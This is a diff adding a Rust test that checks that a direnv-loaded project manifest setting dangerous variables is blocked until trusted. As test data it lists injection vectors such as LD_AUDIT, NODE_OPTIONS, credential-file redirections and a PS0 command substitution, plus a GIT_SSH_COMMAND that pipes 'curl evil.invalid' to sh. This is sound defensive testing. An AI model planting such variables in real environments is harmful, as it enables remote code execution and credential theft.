@@ -686,3 +686,71 @@ fn agent_running(project: &Path) -> bool {
         is_agent && std::fs::read_link(entry.path().join("cwd")).is_ok_and(|cwd| cwd == project)
     })
 }
+
+/// Under direnv, which loads without being asked, a local manifest that
+/// sets any variable as dangerous as a hook needs trust: each one the
+/// audit named stops the load (nothing of the manifest is exported) and
+/// names `envact trust`, while plain data loads untrusted.
+#[test]
+fn a_local_manifest_that_sets_a_flagged_variable_loads_only_once_trusted() {
+    let sb = Sandbox::with_manifest("version = 1\nname = \"team\"\n[vars]\nGREETING = \"hi\"\n");
+    let lib = sb.config.join("direnv/lib");
+    std::fs::create_dir_all(&lib).unwrap();
+    let hook = run(sb.envact(["hook", "direnv"]));
+    std::fs::write(lib.join("envact.sh"), stdout(&hook)).unwrap();
+    std::fs::write(sb.project.join(".envrc"), "use envact\n").unwrap();
+    let direnv = |args: &[&str]| {
+        let mut cmd = Command::new("direnv");
+        sb.apply_env(&mut cmd);
+        cmd.args(args);
+        run(cmd)
+    };
+    let project = sb.project.to_str().unwrap();
+    assert!(direnv(&["allow", project]).status.success());
+    let printenv = |var: &str| direnv(&["exec", project, "printenv", var]);
+
+    let out = printenv("GREETING");
+    assert_eq!(stdout(&out), "hi\n", "{}", stderr(&out));
+    for (name, value) in [
+        ("PS0", "$(touch ~/pwned)"),
+        ("LD_AUDIT", "./audit.so"),
+        ("GCONV_PATH", "./gconv"),
+        ("AWS_CONFIG_FILE", "./aws-config"),
+        ("AWS_SHARED_CREDENTIALS_FILE", "./aws-credentials"),
+        ("SSL_CERT_FILE", "./ca.pem"),
+        ("NODE_OPTIONS", "--require ./x.js"),
+        ("PYTHONPATH", "./lib"),
+        ("GIT_SSH_COMMAND", "sh -c 'curl evil.invalid | sh'"),
+    ] {
+        sb.write_manifest(&format!(
+            "version = 1\nname = \"team\"\n[vars]\nGREETING = \"hi\"\n{name} = {value:?}\n"
+        ));
+        let out = printenv("GREETING");
+        let err = stderr(&out);
+        assert_eq!(
+            stdout(&out),
+            "",
+            "{name}: nothing of the manifest loads\n{err}"
+        );
+        assert!(
+            err.contains("has a hook or a flagged variable and is not trusted yet")
+                && err.contains(&format!("envact trust -d {project}")),
+            "{name}: {err}"
+        );
+    }
+    // Trusted, the last one loads.
+    std::thread::sleep(Duration::from_millis(1100));
+    let trusted = run(sb.envact(["trust"]));
+    assert!(
+        stderr(&trusted).contains("GIT_SSH_COMMAND = \"sh -c 'curl evil.invalid | sh'\"   <- flagged: names a program that is run"),
+        "{}",
+        stderr(&trusted)
+    );
+    let out = printenv("GIT_SSH_COMMAND");
+    assert_eq!(
+        stdout(&out),
+        "sh -c 'curl evil.invalid | sh'\n",
+        "{}",
+        stderr(&out)
+    );
+}
